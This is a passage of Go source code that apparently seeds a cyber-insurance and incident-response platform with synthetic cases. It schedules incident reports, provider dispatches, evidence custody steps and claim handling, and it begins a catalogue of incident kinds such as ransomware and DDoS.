// findingCase places an exploitation case on an enterprise with an open
// finding, occurring between lo and hi days after the finding was reported.
func (l *diLoader) findingCase(place func(*diKind, float64, float64, incident.Grade, diFilter) *diCase, ok diFilter, lo, hi int) *diCase {
	var since time.Time
	for _, fs := range l.findings {
		for _, f := range fs {
			// RFC 3339: the demo assessments store their instants without the fraction.
			if t, err := time.Parse(time.RFC3339, f.since); err == nil && (since.IsZero() || t.Before(since)) {
				since = t
			}
		}
	}
	if since.IsZero() {
		return nil
	}
	from, to := since.AddDate(0, 0, lo), since.AddDate(0, 0, hi)
	// Discovered a few days after it occurred.
	minAge := max(l.now.Sub(to.Add(kindExploit.minLag)).Hours()/24, 14)
	maxAge := l.now.Sub(from.Add(kindExploit.maxLag)).Hours() / 24
	if maxAge < minAge {
		return nil
	}
	c := place(kindExploit, minAge, maxAge, incident.GradeGeneral, func(o *diOrg, s diSlot) bool {
		return len(l.findings[o.ID]) > 0 && s.terms.Coverage(cover.CovEmergencyResponse) != nil && (ok == nil || ok(o, s))
	})
	if c == nil || c.claim == nil {
		return c
	}
	// The occurrence inside the window.
	if c.occurred.Before(from) || c.occurred.After(to) {
		lo, hi := c.discovered.Add(-kindExploit.maxLag), c.discovered.Add(-kindExploit.minLag)
		if lo.Before(from) {
			lo = from
		}
		if hi.After(to) {
			hi = to
		}
		if hi.Before(lo) {
			c.claim = nil
			return c
		}
		c.occurred = lo.Add(time.Duration(l.r.Int64N(int64(hi.Sub(lo)) + 1))).Truncate(time.Minute)
		c.in.OccurredAt = c.occurred.Format(time.RFC3339)
	}
	for _, f := range l.findings[c.ent.ID] {
		if f.since < anbao.FormatTime(c.occurred) {
			c.claim.finding = f.id
			c.in.Details.Cause = "攻击者利用安全评估中已报告、尚未修复的漏洞（" + f.title + "）取得服务器权限，上传 WebShell 后窃取数据。"
			c.addExclusion("unpatched_critical", false, "漏洞书面通知至事故发生未满三十日，不适用本条；按约定因已知未修复漏洞导致的损失提高每次事故免赔额。")
			break
		}
	}
	if c.claim.finding == 0 {
		c.claim = nil
	}
	return c
}

// uninsured places a case on an enterprise with no policy in force.
func (l *diLoader) uninsured(o *diOrg, disc func(*diKind, float64, float64) time.Time) *diCase {
	k := l.kindFor(o, nil, []*diKind{kindPhishing, kindDDoS, kindDefacement, kindMiner, kindTrojan, kindHiddenLink, kindAccess, kindVuln})
	d := disc(k, 5, 200)
	od, dd := l.day(d.Add(-k.maxLag)), l.day(d)
	for _, iv := range l.covered[o.ID] {
		if iv[0] <= dd && od < iv[1] {
			return nil
		}
	}
	if o.admin == nil {
		ok := false
		for _, id := range l.engaged[o.ID] {
			if p := l.orgs[id]; p != nil && p.admin != nil && p.member != nil {
				ok = true
			}
		}
		if !ok {
			return nil
		}
	}
	return l.newCase(k, o, diSlot{}, d, incident.GradeGeneral)
}

// kindFor draws an incident kind for an enterprise and its policy (either
// may be nil) among list (nil: all).
func (l *diLoader) kindFor(o *diOrg, s *diSlot, list []*diKind) *diKind {
	if list == nil {
		list = diKinds
	}
	w := make([]float64, len(list))
	total := 0.0
	for i, k := range list {
		w[i] = k.weight
		if o != nil && k.affinity != nil {
			w[i] *= k.affinity(o, s)
		}
		total += w[i]
	}
	x := l.r.Float64() * total
	for i := range w {
		if x -= w[i]; x < 0 {
			return list[i]
		}
	}
	return list[len(list)-1]
}

// targets decides how far each claim gets: the older, the further.
func (l *diLoader) targets() {
	type cand struct {
		c   *diCase
		age float64 // days from the claim's opening to now, jittered
	}
	var free []cand
	for _, c := range l.cases {
		cl := c.claim
		if cl == nil {
			continue
		}
		switch c.notice {
		case "later":
			c.noticeAt = c.reported.Add(l.hours(1, 20))
		case "late":
			c.noticeAt = c.discovered.Add(l.days(4, 6))
		default:
			c.noticeAt = c.reported
		}
		c.noticeAt = c.noticeAt.Truncate(time.Minute)
		avail := l.now.Add(-time.Hour).Sub(c.noticeAt)
		if avail < 8*time.Hour {
			c.claim = nil
			continue
		}
		// Opened once the first invoices are in, within the first days.
		open := min(l.days(1, 7), time.Duration(float64(avail)*(0.1+0.2*l.r.Float64())))
		cl.openAt = c.noticeAt.Add(max(open, 2*time.Hour)).Truncate(time.Minute)
		if cl.target == "" {
			free = append(free, cand{c, l.now.Sub(cl.openAt).Hours() / 24 * (0.8 + 0.4*l.r.Float64())})
		}
	}
	// Each insurer's queue gets its own spread: the youngest claims open,
	// then assessed, approved, partly paid; the rest closed.
	slices.SortStableFunc(free, func(a, b cand) int {
		switch {
		case a.c.insurer.ID != b.c.insurer.ID:
			return int(a.c.insurer.ID - b.c.insurer.ID)
		case a.age < b.age:
			return -1
		case a.age > b.age:
			return 1
		}
		return 0
	})
	for lo := 0; lo < len(free); {
		hi := lo
		for hi < len(free) && free[hi].c.insurer == free[lo].c.insurer {
			hi++
		}
		queue, i := free[lo:hi], 0
		for _, q := range []struct {
			status string
			share  float64
		}{{ClaimOpen, 0.14}, {ClaimAssessed, 0.12}, {ClaimApproved, 0.10}, {ClaimPartiallyPaid, 0.10}} {
			k := int(math.Round(q.share * float64(len(queue))))
			if len(queue) >= 3 {
				k = max(k, 1)
			}
			for ; k > 0 && i < len(queue); k-- {
				queue[i].c.claim.target = q.status
				i++
			}
		}
		for ; i < len(queue); i++ {
			queue[i].c.claim.target = ClaimClosed
		}
		lo = hi
	}
	// What is too young for its status stops earlier.
	need := map[string]float64{ClaimOpen: 0, ClaimAssessed: 6, ClaimApproved: 11, ClaimPartiallyPaid: 16, ClaimClosed: 20, ClaimDeclined: 9}
	order := []string{ClaimOpen, ClaimAssessed, ClaimApproved, ClaimPartiallyPaid, ClaimClosed}
	for _, c := range l.cases {
		cl := c.claim
		if cl == nil {
			continue
		}
		age := l.now.Sub(cl.openAt).Hours() / 24
		if cl.target == ClaimDeclined && age < need[ClaimDeclined] {
			cl.target, cl.decline, cl.reopen = ClaimOpen, "", false
		}
		if k := slices.Index(order, cl.target); k >= 0 {
			for k > 0 && age < need[order[k]] {
				k--
			}
			cl.target = order[k]
		}
		if cl.reopen && age < need[ClaimDeclined]+12 {
			cl.reopen = false
		}
	}
}

// ---------------------------------------------------------------------------
// Steps.

func (c *diCase) at(t time.Time, what string, fn func() error) {
	c.l.seq++
	c.l.steps = append(c.l.steps, &diStep{at: t.Truncate(time.Minute), seq: c.l.seq, c: c, what: what, fn: fn})
}

// schedule plans the case's steps: report, notice, statutory report,
// re-grading, dispatches and their steps, services used, evidence and
// custody, handling's end, the summary; and the claim.
func (c *diCase) schedule() {
	l := c.l
	t := c.reported
	if c.pol != nil && c.noticeAt.IsZero() {
		c.noticeAt = t
	}
	c.in.NotifyInsurer = c.pol != nil && c.notice == "report"
	c.at(t, "report", func() error {
		inc, err := l.s.ReportIncident(c.reporterCtx(), c.ent.ID, c.in)
		if err != nil {
			return err
		}
		c.id = inc.ID
		return l.track(inc, nil)
	})
	if c.pol != nil && c.notice != "report" && c.ent.admin != nil {
		c.at(c.noticeAt, "notify", func() error {
			inc, err := l.s.NotifyInsurer(c.requesterCtx(), c.id, 0)
			return l.track(inc, err)
		})
	}
	mandatory := c.grade.Reportable()
	window := time.Duration(incident.DeadlineMinutes(incident.OperatorType(c.op))) * time.Minute
	due := c.discovered.Add(window)
	statutory := func(at time.Time) {
		c.at(at, "statutory", func() error {
			ch := l.pick([]string{"12387_web", "12387_wechat", "12387_hotline", "12387_web", "cncert_wechat", "12387_email"})
			if c.op != string(incident.OperatorOther) {
				ch = "competent_authority"
			}
			inc, err := l.s.RecordStatutoryReport(c.reporterCtx(), c.id, StatutoryReportInput{ReportedAt: at.Format(time.RFC3339),
				Channel: ch, Reference: fmt.Sprintf("12387-%s-%04d", at.In(anbao.Shanghai).Format("20060102"), l.between(30, 2400))})
			return l.track(inc, err)
		})
	}
	if c.regrad != nil {
		up := t.Add(l.days(1, 3))
		c.at(up, "regrade", func() error {
			in := c.in
			in.Facts = *c.regrad
			in.Details.AffectedData = fmt.Sprintf("经取证分析，泄露数据涉及约 %d 万名用户的姓名、手机号和收货地址。", c.regrad.PILeakedPeople/10_000)
			inc, err := l.s.UpdateIncident(c.reporterCtx(), c.id, IncidentUpdate{Title: in.Title, Category: in.Category,
				SubCategory: in.SubCategory, OperatorType: in.OperatorType, Facts: in.Facts, Details: in.Details,
				Note: "取证确认泄露规模超过 100 万人，事件升级为较大网络安全事件"})
			return l.track(inc, err)
		})
		if c.gradeOf(*c.regrad).Reportable() {
			mandatory = true
			statutory(up.Add(l.hours(1, 5)))
		}
	} else if mandatory {
		switch c.statutory {
		case "on_time":
			at := c.discovered.Add(time.Duration(float64(window) * (0.35 + 0.5*l.r.Float64()))).Truncate(time.Minute)
			if at.Before(t) {
				at = t.Add(l.minutes(3, 9))
				if at.After(due) {
					at = t
				}
			}
			statutory(at)
		case "late":
			statutory(due.Add(l.hours(1.5, 20)))
		}
	}
	end := t.Add(l.hours(6, 72))
	if c.pol != nil && !c.inHouse && !(c.ent.admin == nil && c.notice == "late") {
		end = c.respond(t)
	} else if c.provider != nil {
		end = t.Add(l.hours(24, 96))
	}
	c.endAt = end.Add(l.hours(3, 40))
	c.evidenceSteps()
	c.at(c.endAt, "end", func() error {
		inc, err := l.s.EndHandling(c.reporterCtx(), c.id, 0)
		return l.track(inc, err)
	})
	if mandatory && c.summary == "submit" {
		c.at(c.endAt.Add(l.days(6, 27)), "summary", func() error {
			inc, err := l.s.SubmitSummary(c.reporterCtx(), c.id, c.summaryInput())
			return l.track(inc, err)
		})
	}
	if c.claim != nil {
		c.claimSteps()
	}
}

// respond dispatches providers of the roster and moves them on; it returns
// when the last one closes.
func (c *diCase) respond(t time.Time) time.Time {
	l := c.l
	req := t.Add(l.minutes(6, 35))
	if age := l.now.Sub(t); age < 3*time.Hour {
		req = t.Add(min(req.Sub(t), age/2))
	}
	if c.ent.admin == nil && c.noticeAt.After(req) {
		req = c.noticeAt.Add(l.minutes(10, 40)) // the insurer dispatches once notified
	}
	first := c.first
	if c.declines {
		if alt := l.forensicFor(c); alt != nil {
			d := c.dispatch(req, first, ModeOnSite, "请尽快安排工程师到场处置。", true)
			pctx := l.as(first.member)
			c.at(req.Add(l.minutes(8, 14)), "dispatch.decline", func() error {
				inc, err := l.s.StepDispatch(pctx, d.id, "decline", DispatchStepInput{
					Note: "事发地暂无可调派的现场应急工程师，预计 12 小时后方可到场，建议改派其他服务机构。"})
				return l.track(inc, err)
			})
			req = req.Add(l.minutes(25, 40))
			first, c.first = alt, alt
			if c.forensic == alt {
				c.forensic = nil
			}
		}
	}
	end := c.dispatch(req, first, c.kind.mode, c.kind.dispatchNote, false).end
	if c.forensic != nil && c.forensic != first {
		if f := c.dispatch(req.Add(l.hours(2, 8)), c.forensic, ModeOnSite, "请派电子数据取证人员到场，对受影响主机制作镜像并固定证据。", false); f.end.After(end) {
			end = f.end
		}
	}
	return end
}

// dispatch plans one dispatch and, unless declined, its steps to closing.
func (c *diCase) dispatch(at time.Time, prov *diOrg, mode, note string, declined bool) *diDisp {
	l := c.l
	d := &diDisp{prov: prov, engineer: l.pick(diEngineers)}
	c.disps = append(c.disps, d)
	requester := c.requesterCtx()
	c.at(at, "dispatch", func() error {
		inc, err := l.s.DispatchProvider(requester, c.id, DispatchInput{ProviderID: prov.ID, Mode: mode, Note: note})
		if err != nil {
			return err
		}
		d.id = inc.Dispatches[len(inc.Dispatches)-1].ID
		return l.track(inc, nil)
	})
	if declined {
		d.end = at
		return d
	}
	pctx := l.as(prov.member)
	step := func(t time.Time, name string, in DispatchStepInput) {
		c.at(t, "dispatch."+name, func() error {
			inc, err := l.s.StepDispatch(pctx, d.id, name, in)
			return l.track(inc, err)
		})
	}
	ack := at.Add(l.minutes(3, 13))
	if l.r.IntN(10) == 0 {
		ack = at.Add(l.minutes(18, 45)) // past the fifteen minutes
	}
	// A dispatch held in a state: its next step comes after the load.
	later := l.now.Add(l.hours(0.2, 6))
	first := len(c.disps) == 1
	switch {
	case first && c.hold == DispatchRequested:
		ack = later
	case first && c.hold != "" && ack.After(l.now.Add(-2*time.Minute)):
		ack = at.Add(l.now.Sub(at) / 2)
	}
	step(ack, "acknowledge", DispatchStepInput{Note: "已受理，正在调派工程师"})
	d.assigned = ack.Add(l.minutes(15, 50))
	if mode == ModeOnSite {
		d.assigned = ack.Add(l.minutes(70, 220))
		if l.r.IntN(8) == 0 {
			d.assigned = at.Add(l.minutes(250, 400)) // past the four hours
		}
	}
	if first && c.hold == DispatchAcknowledged {
		d.assigned = later
	}
	step(d.assigned, "assign", DispatchStepInput{Engineer: d.engineer, Note: map[string]string{ModeRemote: "工程师已远程接入", ModeOnSite: "工程师已到达现场"}[mode]})
	h := c.kind.containHours
	contain := d.assigned.Add(l.hours(h/2, h))
	if first && c.hold == DispatchAssigned {
		contain = later
	}
	c.use(d.assigned.Add(contain.Sub(d.assigned)*2/3), d, pctx, len(c.disps) > 1 && c.forensic == prov)
	step(contain, "contain", DispatchStepInput{Note: c.kind.containNote})
	d.end = contain.Add(l.days(1, 5))
	if first && c.hold == DispatchContained {
		d.end = later
	}
	step(d.end, "close", DispatchStepInput{Note: "处置完成，已提交应急响应报告"})
	return d
}

// use draws the services a dispatch delivered on the term's entitlements,
// never beyond what is left: the forensic dispatch forensics, the first the rest.
func (c *diCase) use(at time.Time, d *diDisp, pctx context.Context, forensic bool) {
	l := c.l
	for _, svc := range c.services {
		if forensic != (svc == "forensics") && (forensic || c.forensic != nil) {
			continue
		}
		var ent *cover.Entitlement
		for i := range c.terms.Entitlements {
			if c.terms.Entitlements[i].Service == svc {
				ent = &c.terms.Entitlements[i]
			}
		}
		if ent == nil || ent.Quantity <= 0 {
			continue
		}
		key := fmt.Sprint(c.pol.id, "/", c.term.no, "/", svc)
		used := l.ledger[key]
		q := int64(1)
		switch ent.Unit {
		case cover.UnitHours:
			q = int64(l.between(4, 14))
		case cover.UnitDays:
			q = int64(l.between(1, 4))
		}
		q = min(q, int64(ent.Quantity)-used[0])
		if q <= 0 {
			continue
		}
		v := ent.ValueFen * q / int64(ent.Quantity) / 100 * 100
		if ent.ValueFen > 0 {
			v = min(v, ent.ValueFen-used[1])
		}
		l.ledger[key] = [2]int64{used[0] + q, used[1] + v}
		in := UseInput{Service: svc, Quantity: int(q), ValueFen: v, Note: diServiceNote[svc]}
		c.at(at, "use", func() error {
			inc, err := l.s.UseEntitlement(pctx, d.id, in)
			return l.track(inc, err)
		})
		at = at.Add(time.Minute)
	}
}

// evidenceSteps registers the case's evidence and moves each item along
// its chain of custody: collected, handed to the forensic provider,
// verified, sealed; the forensic provider's report at the end.
func (c *diCase) evidenceSteps() {
	l := c.l
	if len(c.evidence) == 0 {
		return
	}
	// The forensic holder: the forensic dispatch, else the first one that
	// was not declined, else the provider that reported.
	var fd *diDisp
	for _, d := range c.disps {
		if !d.assigned.IsZero() && (fd == nil || d.prov == c.forensic) {
			fd = d
		}
	}
	var forensic *diOrg
	start := c.reported.Add(l.minutes(20, 60))
	if fd != nil {
		forensic, start = fd.prov, fd.assigned.Add(l.minutes(20, 90))
	} else if c.provider != nil {
		forensic = c.provider
	}
	reporter, reporterOrg := c.reporterCtx(), c.ent
	if c.provider != nil {
		reporterOrg = c.provider
	}
	t := start
	for i, e := range c.evidence {
		if e.byProvider && forensic == nil {
			continue
		}
		by, byOrg := reporter, reporterOrg
		if e.byProvider {
			by, byOrg = l.as(forensic.member), forensic
		}
		if e.kind == "forensic_report" {
			at := c.endAt.Add(-l.hours(2, 12))
			if fd != nil {
				at = fd.end.Add(-l.hours(1, 8))
			}
			if at.Before(t) {
				at = t
			}
			c.at(at, "evidence", func() error {
				inc, err := l.s.AddEvidence(by, c.id, EvidenceInput{Kind: e.kind, Name: e.name, Note: e.note, Content: e.content})
				return l.track(inc, err)
			})
			continue
		}
		sha := e.sha(c, i)
		var id int64
		collector := by
		c.at(t, "evidence", func() error {
			in := EvidenceInput{Kind: e.kind, Name: e.name, Note: e.note, Content: e.content}
			if e.content == nil {
				in.SHA256 = sha
			}
			inc, err := l.s.AddEvidence(collector, c.id, in)
			if err != nil {
				return err
			}
			id = inc.Evidence[len(inc.Evidence)-1].ID
			return l.track(inc, nil)
		})
		custody := func(at time.Time, ctx context.Context, in CustodyInput) {
			in.SHA256 = sha
			c.at(at, "custody."+in.Action, func() error {
				inc, err := l.s.RecordCustody(ctx, id, in)
				return l.track(inc, err)
			})
		}
		t = t.Add(l.minutes(10, 40))
		if forensic != nil && byOrg != forensic {
			engineer := l.pick(diEngineers)
			if fd != nil {
				engineer = fd.engineer
			}
			custody(t, by, CustodyInput{Action: "transfer", ToOrg: forensic.ID, ToPerson: engineer, Note: "现场移交取证人员，双方签署证据交接单"})
			t = t.Add(l.minutes(20, 90))
			byOrg, by = forensic, l.as(forensic.member)
		}
		if byOrg == forensic && !e.byProvider {
			custody(t, by, CustodyInput{Action: "verify", Note: "接收后复核 SHA-256 一致"})
			t = t.Add(l.minutes(5, 30))
		}
		if byOrg == forensic {
			custody(t, by, CustodyInput{Action: "seal", Note: fmt.Sprintf("封存于证据袋 %s-%03d，存放于取证实验室证据柜", diSealPrefix(forensic), l.between(1, 400))})
		} else {
			custody(t, by, CustodyInput{Action: "seal", Note: "加密存档，访问仅限信息安全负责人"})
		}
		t = t.Add(l.minutes(15, 120))
	}
}

func diSealPrefix(o *diOrg) string {
	sum := sha256.Sum256([]byte(o.USCC))
	return strings.ToUpper(hex.EncodeToString(sum[:2]))
}

// sha is the SHA-256 of an item: of its content, or, for an item registered
// by hash only (a disk image), derived from the case so that loads repeat.
func (e diEvidence) sha(c *diCase, i int) string {
	if e.content != nil {
		sum := sha256.Sum256(e.content)
		return hex.EncodeToString(sum[:])
	}
	sum := sha256.Sum256(fmt.Appendf(nil, "anbao-demo-evidence\x00%d\x00%s\x00%d\x00%s", c.ent.ID, c.discovered.Format(time.RFC3339), i, e.name))
	return hex.EncodeToString(sum[:])
}

// claimSteps plans the claim up to its target status.
func (c *diCase) claimSteps() {
	l, cl := c.l, c.claim
	handler := l.as(c.insurer.member)
	approver := handler
	if cl.total() > 500_000*100 && c.insurer.admin != nil {
		approver = l.as(c.insurer.admin) // above the handler's authority
	}
	opener := handler
	if c.ent.admin != nil {
		opener = l.as(c.ent.admin)
	}
	type gap struct {
		name   string
		lo, hi float64 // days
	}
	path := []gap{{"reserve", 0.3, 2}}
	reach := map[string]int{ClaimOpen: 1, ClaimAssessed: 2, ClaimApproved: 3, ClaimPartiallyPaid: 4, ClaimClosed: 5, ClaimDeclined: 2}[cl.target]
	if reach >= 2 {
		path = append(path, gap{"assess", 5, 14})
	}
	if cl.consent && reach >= 3 {
		path = append(path, gap{"consent", 1, 3})
	}
	if cl.target == ClaimDeclined {
		path = append(path, gap{"decline", 1, 4})
		if cl.reopen {
			path = append(path, gap{"reopen", 8, 14})
		}
	}
	if reach >= 3 {
		path = append(path, gap{"approve", 2, 6})
	}
	if reach == 4 || reach == 5 && cl.total() >= 150_000*100 {
		path = append(path, gap{"pay_partial", 2, 8})
	}
	if reach >= 5 {
		path = append(path, gap{"pay_final", 5, 20})
		if cl.recovery > 0 {
			path = append(path, gap{"recovery", 10, 25})
		}
	}
	gaps := make([]time.Duration, len(path))
	var total time.Duration
	for i, g := range path {
		gaps[i] = l.days(g.lo, g.hi)
		total += gaps[i]
	}
	// Compressed to fit before the load when the claim is young.
	if avail := l.now.Add(-40 * time.Minute).Sub(cl.openAt); total > avail && cl.target != ClaimOpen {
		for i := range gaps {
			gaps[i] = time.Duration(float64(gaps[i]) * float64(avail) / float64(total))
		}
	}
	t := cl.openAt
	c.at(t, "claim.open", func() error {
		in := ClaimInput{Items: cl.items, Note: "附事故报告、应急响应报告及费用发票"}
		if cl.claimMade {
			in.ClaimMadeAt = l.day(c.discovered)
		}
		got, err := l.s.OpenClaim(opener, c.id, in)
		if err != nil {
			return err
		}
		cl.id = got.ID
		l.rep.Claimed += cl.total()
		return nil
	})
	for i, g := range path {
		t = t.Add(max(gaps[i], time.Minute))
		switch g.name {
		case "reserve":
			est := min(cl.total(), c.terms.AggregateLimit)
			if est < 50_000*100 {
				continue // small claims: the approval sets the reserve
			}
			c.at(t, "claim.reserve", func() error {
				_, err := l.s.SetReserve(handler, cl.id, ReserveInput{Loss: est / 10_000 * 10_000, Expense: est / 12 / 10_000 * 10_000,
					Note: "立案估损：按被保险人提交的损失清单及应急响应报告估计"})
				return err
			})
		case "assess":
			c.at(t, "claim.assess", func() error {
				got, err := l.s.AssessClaim(handler, cl.id, AssessInput{Exclusions: cl.excl, FindingID: cl.finding})
				if err != nil {
					return err
				}
				cl.payable, cl.held, cl.calc = got.Payable, got.Held, got.Calculation
				return nil
			})
		case "consent":
			c.at(t, "claim.consent", func() error {
				if cl.held == 0 {
					return nil // the limits left nothing of the ransom to consent to
				}
				got, err := l.s.ConsentRansom(approver, cl.id, "被保险人无可用离线备份，已向公安机关报案；经总公司理赔委员会审批，同意支付赎金以取得解密工具。", 0)
				if err == nil {
					cl.payable = got.Payable
				}
				return err
			})
		case "decline":
			c.at(t, "claim.decline", func() error {
				code, note := cl.decline, cl.declineNote
				if code == "" {
					code, note = c.declineReason()
				}
				_, err := l.s.DeclineClaim(handler, cl.id, DeclineInput{Code: code, Note: note})
				return err
			})
		case "reopen":
			c.at(t, "claim.reopen", func() error {
				_, err := l.s.ReopenClaim(handler, cl.id, "被保险人补充提供事发当日向保险人客服热线报案的通话记录，撤销拒赔，重新理算。", 0)
				return err
			})
		case "approve":
			c.at(t, "claim.approve", func() error {
				if cl.payable <= 0 {
					// Nothing payable after all: declined with the calculation's reason.
					code, note := c.declineReason()
					_, err := l.s.DeclineClaim(handler, cl.id, DeclineInput{Code: code, Note: note})
					return err
				}
				got, err := l.s.ApproveClaim(approver, cl.id, "理算无误，同意赔付", 0)
				if err != nil {
					return err
				}
				cl.approved = got.Approved
				return nil
			})
		case "pay_partial":
			at := t
			c.at(t, "claim.pay", func() error {
				amt := cl.approved * int64(45+l.r.IntN(20)) / 100 / 100_000 * 100_000
				if amt <= 0 || amt >= cl.approved {
					return nil
				}
				got, err := l.s.PayClaim(handler, cl.id, PaymentInput{Amount: amt, Key: fmt.Sprintf("demo-%d-1", cl.id),
					Reference: fmt.Sprintf("预付赔款 银行流水 %s%06d", at.In(anbao.Shanghai).Format("20060102"), l.between(1, 999999))})
				if err == nil {
					cl.paid = got.Paid
				}
				return err
			})
		case "pay_final":
			at := t
			c.at(t, "claim.pay", func() error {
				if cl.approved <= cl.paid {
					return nil // declined after all
				}
				got, err := l.s.PayClaim(handler, cl.id, PaymentInput{Amount: cl.approved - cl.paid, Final: true, Key: fmt.Sprintf("demo-%d-2", cl.id),
					Reference: fmt.Sprintf("赔款结案 银行流水 %s%06d", at.In(anbao.Shanghai).Format("20060102"), l.between(1, 999999))})
				if err == nil {
					cl.paid = got.Paid
				}
				return err
			})
		case "recovery":
			c.at(t, "claim.recovery", func() error {
				amt := int64(float64(cl.paid)*cl.recovery) / 10_000 * 10_000
				if amt <= 0 {
					return nil
				}
				_, err := l.s.RecordRecovery(handler, cl.id, RecoveryInput{Amount: amt, Source: "funds_recalled",
					Note: "经公安机关紧急止付并冻结涉案账户，收款行原路退回部分被骗资金，被保险人已按约返还保险人。"})
				return err
			})
		}
	}
}

// declineReason says why the calculation left nothing to pay.
func (c *diCase) declineReason() (string, string) {
	calc := c.claim.calc
	if calc == nil {
		return "not_covered", "经核实，本次事故损失不属于保险责任范围。"
	}
	for _, it := range calc.Items {
		switch {
		case it.Status == claims.StatusExcluded:
			return "exclusion", "经查，本次事故适用保险合同约定的除外责任（" + it.Reason + "），保险人不负赔偿责任。"
		case it.Reason == claims.ReasonBelowWaiting:
			return "not_covered", "营业中断时间未达到保险合同约定的等待期，其余费用未超过免赔额。"
		case it.Status == claims.StatusNotApplicable:
			return "outside_term", "事故发生或发现日期不在保险期间内。"
		}
	}
	return "below_retention", "核定损失金额未超过每次事故免赔额 " + cover.Yuan(calc.Retention) + "，本次事故无应赔付金额。"
}

// addExclusion records the handler's fact on a clause, if the terms carry it.
func (c *diCase) addExclusion(code string, applies bool, note string) {
	if c.claim == nil || c.terms == nil {
		return
	}
	for _, x := range c.terms.Exclusions {
		if x.Code == code {
			c.claim.excl = append(c.claim.excl, claims.ExclusionFact{Code: code, Version: x.Version, Applies: applies, Note: note})
			return
		}
	}
}

func (c *diCase) summaryInput() SummaryInput {
	d := c.in.Details
	cause := d.Cause
	if cause == "" {
		cause = "原因调查见应急响应报告。"
	}
	next := d.NextSteps
	if next == "" {
		next = "完成漏洞修复和安全加固，开展全员网络安全意识培训。"
	}
	ch := "12387_web"
	if c.op != string(incident.OperatorOther) {
		ch = "competent_authority"
	}
	return SummaryInput{
		Cause:          cause,
		Measures:       strings.TrimSuffix(d.Measures, "。") + "；处置结束后完成系统加固和复测。",
		Harm:           "受影响系统：" + strings.TrimSuffix(d.AffectedSystems, "。") + "。" + d.AffectedData,
		Accountability: "对负责相关系统运维的部门负责人通报批评，责成信息安全负责人牵头整改并纳入年度考核。",
		Rectification:  next,
		Lessons:        "暴露面和账号口令管理存在薄弱环节；应急预案须按季度演练，离线备份须定期验证可恢复性。",
		Channel:        ch,
	}
}

// ---------------------------------------------------------------------------
// Running.

// track passes on the error of an operation on an incident.
func (l *diLoader) track(_ *Incident, err error) error { return err }

// fire warns and expires the timers whose instant has come by the step
// about to run, as the server's timer pass would have.
func (l *diLoader) fire() error {
	_, err := l.s.FireTimers(l.ctx)
	return err
}

func (l *diLoader) run() error {
	limit := l.now.Add(-time.Minute)
	for _, st := range l.steps {
		if st.at.After(limit) || st.what != "report" && st.c.id == 0 {
			continue
		}
		l.cur = st.at
		if err := l.fire(); err != nil {
			return err
		}
		if err := st.fn(); err != nil {
			return fmt.Errorf("demo incidents: %s of %q (%s, %s): %w", st.what, st.c.in.Title, st.c.ent.NameZH,
				st.at.In(anbao.Shanghai).Format("2006-01-02 15:04"), err)
		}
		l.rep.Steps[st.what]++
	}
	return nil
}

// count fills the report from what was written.
func (l *diLoader) count() error {
	ctx, db := l.ctx, l.s.read
	for q, m := range map[string]map[string]int{
		"SELECT grade, COUNT(*) FROM incidents GROUP BY grade":       l.rep.Grades,
		"SELECT category, COUNT(*) FROM incidents GROUP BY category": l.rep.Categories,
		"SELECT status, COUNT(*) FROM incidents GROUP BY status":     l.rep.Statuses,
		"SELECT status, COUNT(*) FROM dispatches GROUP BY status":    l.rep.Dispatches,
		"SELECT status, COUNT(*) FROM claims GROUP BY status":        l.rep.Claims,
	} {
		err := eachRow(ctx, db, q, nil, func(sc scanner) error {
			var k string
			var n int
			if err := sc.Scan(&k, &n); err != nil {
				return err
			}
			m[k] = n
			return nil
		})
		if err != nil {
			return err
		}
	}
	return db.QueryRowContext(ctx, `SELECT (SELECT COUNT(*) FROM incidents), (SELECT COUNT(*) FROM incident_evidence),
		(SELECT COUNT(*) FROM custody_events), (SELECT COALESCE(SUM(paid), 0) FROM claims), (SELECT COALESCE(SUM(recovered), 0) FROM claims)`).
		Scan(&l.rep.Incidents, &l.rep.Evidence, &l.rep.Custody, &l.rep.Paid, &l.rep.Recovered)
}

// ---------------------------------------------------------------------------
// The catalogue: kinds of incident with their narrative, impact figures,
// response, evidence and loss items.

// diKind is a kind of incident.
type diKind struct {
	key            string
	cat, sub       string
	weight         float64
	minLag, maxLag time.Duration // from occurrence to discovery
	hours          [2]int        // the hours (Beijing) it is usually discovered in
	mode           string        // how the first provider responds
	containHours   float64       // at most, from the engineer's assignment to containment
	forensic       bool          // worth a second, forensic dispatch
	inHouse        float64       // how often it is handled without a dispatch
	dispatchNote   string
	containNote    string
	// affinity weighs the kind for an enterprise and its policy (nil when none).
	affinity func(o *diOrg, s *diSlot) float64
	// fits says whether the kind suits an enterprise.
	fits func(o *diOrg, s diSlot) bool
	fill func(c *diCase)
}

func (k *diKind) lag(l *diLoader) time.Duration {
	return (k.minLag + time.Duration(l.r.Int64N(int64(k.maxLag-k.minLag)+1))).Truncate(time.Minute)
}

func (k *diKind) hour(l *diLoader) int { return l.between(k.hours[0], k.hours[1]) }

// product and section helpers for affinities.
func diProduct(s *diSlot, codes ...string) bool {
	return s != nil && s.pol != nil && slices.Contains(codes, s.pol.product)
}

func diSection(o *diOrg, secs ...string) bool { return slices.Contains(secs, o.section) }

func diWeigh(cond bool, w float64) float64 {
	if cond {
		return w
	}
	return 1
}

var diLiabilityProducts = []string{"CY-DSL", "SY-LIAB"}

var (
	kindRansomware = &diKind{key: "ransomware", cat: incident.CategoryMaliciousProgram, sub: incident.SubRansomware, weight: 14,
		minLag: 2 * time.Hour, maxLag: 7 * time.Hour, hours: [2]int{7, 9}, mode: ModeOnSite, containHours: 40, forensic: true,
		dispatchNote: "疑似勒索软件攻击，多台服务器文件被加密，请立即派员到场处置。",
		containNote:  "已完成受感染主机隔离和恶意程序清除，未发现新的加密行为",
		affinity: func(o *diOrg, s *diSlot) float64 {
			return diWeigh(diProduct(s, "YH-ARW-2026"), 6) * diWeigh(diProduct(s, "SY-EPP"), 2) * diWeigh(diSection(o, "C", "G", "Q"), 1.5) *
				diWeigh(diProduct(s, diLiabilityProducts...), 0.3)
		},
		fill: fillRansomware}
	kindDDoS = &diKind{key: "ddos", cat: incident.CategoryNetworkAttack, sub: incident.SubDenialOfService, weight: 7,
		minLag: 5 * time.Minute, maxLag: 25 * time.Minute, hours: [2]int{0, 23}, mode: ModeRemote, containHours: 6,
		dispatchNote: "对外业务遭大流量攻击无法访问，请立即远程协助牵引清洗。",
		containNote:  "流量已牵引至清洗中心，业务恢复访问",
		affinity: func(o *diOrg, s *diSlot) float64 {
